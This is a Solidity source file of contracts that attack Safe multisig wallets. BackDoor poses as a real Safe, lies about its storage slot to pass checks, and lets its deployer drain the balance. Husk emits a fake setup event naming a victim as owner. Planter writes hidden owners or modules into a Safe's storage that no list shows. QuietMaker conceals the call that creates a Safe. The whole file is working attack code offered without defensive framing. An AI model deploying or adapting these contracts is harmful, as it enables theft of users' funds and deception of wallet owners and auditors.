// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// Answers as a real Safe of its victim in everything, and has a way out for the thief.
contract BackDoor {
    /// Where a Safe's proxy keeps it.
    address private shown;
    address private immutable official;
    address private immutable thief = msg.sender;
    /// Whether it says itself what stands in its slots.
    bool private immutable lies;

    constructor(address singleton, address inSlot, bytes memory setUp) {
        official = singleton;
        shown = inSlot;
        lies = inSlot != singleton;
        (bool done, ) = singleton.delegatecall(setUp);
        require(done);
    }

    function drain() external {
        payable(thief).transfer(address(this).balance);
    }

    function getStorageAt(uint256 slot, uint256) external returns (bytes memory) {
        if (lies && slot == 0) return abi.encode(official);
        _answer();
    }

    fallback() external payable {
        _answer();
    }

    receive() external payable {}

    function _answer() private {
        address target = official;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(done) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// Says that it is set up, has the right slot, and leaves no code behind.
contract Husk {
    event SafeSetup(
        address indexed initiator,
        address[] owners,
        uint256 threshold,
        address initializer,
        address fallbackHandler
    );

    constructor(address singleton, address victim) {
        assembly {
            sstore(0, singleton)
        }
        address[] memory owners = new address[](1);
        owners[0] = victim;
        emit SafeSetup(msg.sender, owners, 1, address(0), address(0));
        assembly {
            return(0, 0)
        }
    }
}

contract Husks {
    function make(uint256 count, address singleton, address victim) external {
        for (uint256 index = 0; index < count; index++) new Husk(singleton, victim);
    }
}

/// Run by delegatecall, it writes a right into the Safe's storage that no list leads to.
contract Planter {
    function plantModule(address module) external {
        _plant(module, 1);
    }

    function plantOwner(address owner) external {
        _plant(owner, 2);
    }

    function _plant(address key, uint256 mappingSlot) private {
        assembly {
            mstore(0, key)
            mstore(32, mappingSlot)
            sstore(keccak256(0, 64), 1)
        }
    }
}

/// Makes a Safe with what it has been told before, so that its own call shows none of it.
contract QuietMaker {
    bytes private creation;
    address private immutable factory;

    constructor(address safeFactory, bytes memory call) {
        factory = safeFactory;
        creation = call;
    }

    function make(bytes calldata) external {
        (bool done, ) = factory.call(creation);
        require(done);
    }
}
